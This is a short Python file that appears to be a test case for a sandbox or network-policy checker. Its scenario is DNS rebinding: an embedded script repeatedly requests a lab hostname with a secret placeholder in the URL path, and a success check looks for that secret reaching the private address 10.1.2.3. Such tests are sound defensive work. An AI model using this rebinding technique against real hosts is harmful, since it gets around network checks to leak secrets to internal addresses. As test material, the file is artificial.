"""reaches a private address by a name that leads elsewhere at every question"""

SHAPE = "DNS rebinding between check and use"
PROMISE = "P25"
LAB = True
OPTIONS = {"hosts": ["flip.rwlab.net:80"]}
PYTHON = """
import socket
for _ in range(6):
    try:
        with socket.create_connection(("flip.rwlab.net", 80), 30) as line:
            line.sendall(b"GET /@SECRET@ HTTP/1.1\\r\\nHost: flip.rwlab.net\\r\\n\\r\\n")
            line.recv(999)
    except OSError:
        pass
"""


def succeeded(host, done):
    return any(e.get("to") == "10.1.2.3" and host.secret in str(e) for e in host.lab.entries())
